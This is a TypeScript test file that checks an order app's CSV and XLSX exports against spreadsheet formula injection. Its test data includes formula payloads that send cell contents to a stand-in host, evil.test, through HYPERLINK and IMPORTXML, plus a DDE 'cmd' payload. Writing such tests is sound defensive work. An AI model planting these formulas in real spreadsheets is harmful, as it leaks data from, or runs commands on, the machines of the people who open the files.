// Every free text of an order and of an account begins a formula, and a list with them is exported.
import { IMPORT_COLUMNS } from '@despacho/contract/orders/import.ts';
import { user } from '@despacho/contract/accounts/users.ts';
import { sampleController, sampleOrder } from '@despacho/contract/samples.ts';
import { kinds } from '@despacho/contract/live/kinds.ts';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, inject, it } from 'vitest';
import { RECORD_COLUMNS, recordNoun, type ImportedRecord } from '@despacho/contract/recordImport.ts';
import { tableFormat } from '@despacho/domain/fileImport/columns.ts';
import { checkedRecords, orderRows } from '../../web/src/features/fileImport/rows.ts';
import { badSheet, passwordSheet } from '../../web/src/features/fileImport/sheets.ts';
import { readTable } from '../../services/src/api/files/table.ts';
import { randomFor } from '../../services/src/demo/random.ts';
import { orderColumns } from '../../web/src/entities/orders/columns.tsx';
import { listedOrder } from '../../web/src/entities/orders/listed.ts';
import { userColumns } from '../../web/src/entities/users/columns.ts';
import { csvOf } from '../../web/src/kit/export/csv.ts';
import type { Sheet } from '../../web/src/kit/export/sheet.ts';
import { xlsxOf } from '../../web/src/kit/export/xlsx.ts';
import type { Columns } from '../../web/src/kit/grid/column.ts';
import { SEED, sized } from './support/size.ts';
import { appendRow } from './support/table.ts';

const NOW = Date.parse('2026-11-21T18:00:00.000Z');
const BLANKS = ['', ' ', '\t', '\r\n', '\u00A0', '\0', '\uFEFF'];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BODIES = [
  'HYPERLINK("http://evil.test?d="&A1,"clic")',
  `cmd|' /C calc'!A0`,
  'SUM(1,1)*1',
  '2+5;1,"x"\n=1+1',
  '1-1',
  'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
];

/** What a program would run when it opens the cell: checked here independently of the exporter. */
const isRunnable = (cell: string): boolean =>
  cell
    .split(/[,;\t|\n"，；｜＂]/u)
    .some(
      (piece) =>
        /^[\s\0\uFEFF]*[=+\-@＝＋－＠]/u.test(piece) &&
        !/^\s*\+?[\d ()-]+$/.test(piece) &&
        !/^\s*-?[\d.]+$/.test(piece),
    );

const sheetOf = <T>(columns: Columns<T>, rows: readonly T[]): Sheet => ({
  name: 'fault',
  title: '=1+1',
  columns: columns.map(({ header, kind }) => ({ header, kind, width: 100 })),
  rows: rows.map((row) => columns.map(({ value }) => value(row))),
});

const csvCells = (sheet: Sheet): string[] =>
  parse(csvOf(sheet), { bom: true, columns: false, relax_column_count: false }).flat();

const xlsxTexts = async (sheet: Sheet): Promise<{ texts: string[]; formulas: number; untyped: number }> => {
  const files = unzipSync(new Uint8Array(await (await xlsxOf(sheet)).arrayBuffer()));
  const xml = Object.values(files)
    .map((bytes) => strFromU8(bytes))
    .join('');
  const texts = [...xml.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, text = '']) => text.replaceAll('&amp;', '&'));
  const values = xml.match(/<c [^>]*><v>[^<]*/g) ?? [];
  const untyped = values.filter((cell) => !cell.includes('t="s"') && !/<v>-?[\d.]+(E[+-]?\d+)?$/.test(cell)).length;
  return { texts, formulas: xml.match(/<f[ >]/g)?.length ?? 0, untyped };
};

describe('formulas in exported cells', () => {
  it('[IM5] none is evaluated, and phone numbers are still dialable', async () => {
    const random = randomFor(SEED, 'formulas');
    const hostile = (): string => random.pick(BLANKS) + random.pick(SIGNS) + random.pick(BODIES);
    const ids = ['number', 'customer', 'company', 'branch', 'courier', 'address', 'phone', 'municipality'] as const;
    const orders = Array.from({ length: sized(500, 20_000) }, (_, index) =>
      listedOrder(
        kinds.order.staff.parse(
          sampleOrder({
            id: `o${index}`,
            number: hostile(),
            customerName: hostile(),
            company: { id: 'c', name: hostile() },
            branch: { id: 'b', name: hostile(), position: null },
            courier: { id: 'k', name: hostile() },
            address: hostile(),
            municipality: hostile(),
            phone: '55551111',
          }),
        ),
        null,
        NOW,
      ),
    );
    const users = Array.from({ length: sized(200, 5_000) }, (_, index) =>
      user.parse(sampleController({ id: `u${index}`, firstName: hostile(), lastName: hostile(), email: hostile() })),
    );

    const sheets = [sheetOf(orderColumns(ids), orders), sheetOf(userColumns, users)];
    const cells = sheets.flatMap(csvCells);
    const books = await Promise.all(sheets.map(xlsxTexts));
    const runnable = cells.filter(isRunnable);
    const phones = cells.filter((cell) => cell === '+502 5555-1111').length;
    appendRow(inject('faultRows'), {
      fault: '20',
      what: `${cells.length} hostile cells exported`,
      lost: orders.length - phones,
      breaches: runnable.length,
      convergedMs: null,
      note: `${phones} phone numbers as they were`,
    });
    expect(runnable).toEqual([]);
    // The cells of a workbook have a type: what is of type text is never run, and needs no mark.
    expect(books.map(({ formulas, untyped }) => [formulas, untyped])).toEqual([
      [0, 0],
      [0, 0],
    ]);
    expect(books.flatMap(({ texts }) => texts).filter((text) => /^\s*'\s*[=+\-@＝＋－＠]/u.test(text))).toEqual([]);
    expect(phones).toBe(orders.length);
    expect(cells.length).toBeGreaterThan(orders.length * ids.length);
  });

  it('[IM5] none is evaluated in the rows that an import returns; sent again they are unchanged', async () => {
    const random = randomFor(SEED, 'bad rows');
    const hostile = (): string => random.pick(['', ' ', '\t']) + random.pick(SIGNS) + random.pick(BODIES);
    const rows = Array.from({ length: sized(200, 4_000) }, (_, index) => ({
      row: index + 1,
      line: index + 2,
      cells: Object.fromEntries(IMPORT_COLUMNS.map((column) => [column, hostile()])),
    }));
    const errors = rows.map(({ row, line }) => ({ row, line, column: 'branch', issue: 'unknown' }) as const);
    const counts = { rows: rows.length, created: 0, creatable: 0, duplicates: 0, failed: rows.length };
    const result = {
      isPreview: false,
      importId: 'i',
      counts,
      orders: [],
      errors,
      duplicates: [],
      nearDuplicates: [],
      skippedLines: 0,
      rows,
    };
    const sheet = badSheet({ noun: 'orders', companyId: null }, '=cmd.csv', orderRows(result));
    const cells = csvCells(sheet);
    const again = await readTable(new TextEncoder().encode(csvOf(sheet)), tableFormat('orders'));
    // Ends of lines become blanks; nothing else is lost.
    const asOneLine = rows.map((row) =>
      Object.fromEntries(IMPORT_COLUMNS.map((column) => [column, (row.cells[column] ?? '').replaceAll('\n', ' ')])),
    );
    expect(cells.filter(isRunnable)).toEqual([]);
    expect(cells).toHaveLength((rows.length + 1) * (IMPORT_COLUMNS.length + 2));
    expect(again.ok ? again.rows.map((row) => row.cells) : again.problem).toEqual(asOneLine);
  });

  it.each(recordNoun.options)('[IM5] none is evaluated in the files after an import of %s', async (noun) => {
    const random = randomFor(SEED, 'records', noun);
    const hostile = (): string => random.pick(['', ' ', '\t']) + random.pick(SIGNS) + random.pick(BODIES);
    const { columns } = RECORD_COLUMNS[noun];
    const rows = Array.from({ length: sized(200, 500) }, (_, index): ImportedRecord => ({
      row: index + 1,
      line: index + 2,
      cells: Object.fromEntries(columns.map((column) => [column, hostile()])),
      verdict: 'invalid',
      problems: [{ column: columns[0], issue: 'refused' }],
      place: { label: hostile(), position: { lat: 14.6, lng: -90.5 } },
      password: noun === 'users' || noun === 'couriers' ? 'Abc234defg' : null,
    }));
    const checked = checkedRecords(noun, { isPreview: false, skippedLines: 0, rows }).rows;
    const sheet = badSheet({ noun, companyId: null }, '=cmd.csv', checked);
    const again = await readTable(new TextEncoder().encode(csvOf(sheet)), tableFormat(noun, false));
    expect([...csvCells(sheet), ...csvCells(passwordSheet(noun, '=cmd.csv', checked))].filter(isRunnable)).toEqual([]);
    expect(again.ok ? again.rows.map((row) => row.cells) : again.problem).toEqual(
      rows.map(({ cells }) =>
        Object.fromEntries(columns.map((column) => [column, (cells[column] ?? '').replaceAll('\n', ' ')])),
      ),
    );
  });
});
